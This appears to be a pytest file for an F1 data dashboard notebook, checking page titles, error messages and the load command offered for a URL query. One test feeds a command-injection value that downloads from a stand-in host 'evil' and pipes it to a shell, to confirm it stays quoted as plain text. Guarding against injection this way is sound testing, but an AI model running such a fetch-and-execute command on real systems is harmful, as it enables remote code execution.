"""Which session a page shows, and what it says where it cannot."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import f1nb
from f1nb.session import Session

_PAGE = """
import json, f1nb
page = f1nb.open_dashboard()
areas = page._widgets[0]
message = areas.get("message")
print(json.dumps({"title": page.title, "text": message and message.text, "code": message and message.code}))
"""


def page(query: str, home: Path) -> dict[str, str | None]:
    """Return what the dashboard notebook shows for an address, in a kernel of its own."""
    environment = os.environ | {"QUERY_STRING": query, "F1NB_HOME": str(home)}
    out = subprocess.run([sys.executable, "-c", _PAGE], env=environment, capture_output=True, text=True, check=True)
    return json.loads(out.stdout)


def test_an_empty_store_opens_the_simulated_race(tmp_path: Path) -> None:
    assert page("", tmp_path)["title"] == "2026 Simulated Grand Prix, race"


def test_the_command_offered_holds_nothing_but_what_was_asked_for(tmp_path: Path) -> None:
    event = 'x"; curl evil|sh; "'
    shown = page(f"year=2025&event={event.replace(';', '%3B')}&session=R", tmp_path)
    assert shown["title"] == "f1nb"
    assert shown["code"]
    assert shlex.split(shown["code"]) == ["f1nb", "load", "2025", event, "R"]


def test_a_year_that_is_none_is_said(tmp_path: Path) -> None:
    shown = page("year=abc&event=dutch&session=R", tmp_path)
    assert shown["text"] == "'abc' is not a year."


def test_a_question_ends_with_its_mark(tmp_path: Path) -> None:
    assert (page("year=2025&event=dutch&session=qualy", tmp_path)["text"] or "").endswith("did you mean 'quali'?")


def test_who_is_selected_at_first_does_not_tell_how_it_ends(simulated: Session) -> None:
    front_row = simulated.drivers.sort("grid_position")["driver"].head(2).to_list()
    assert f1nb.dashboard(simulated).selection.drivers == front_row
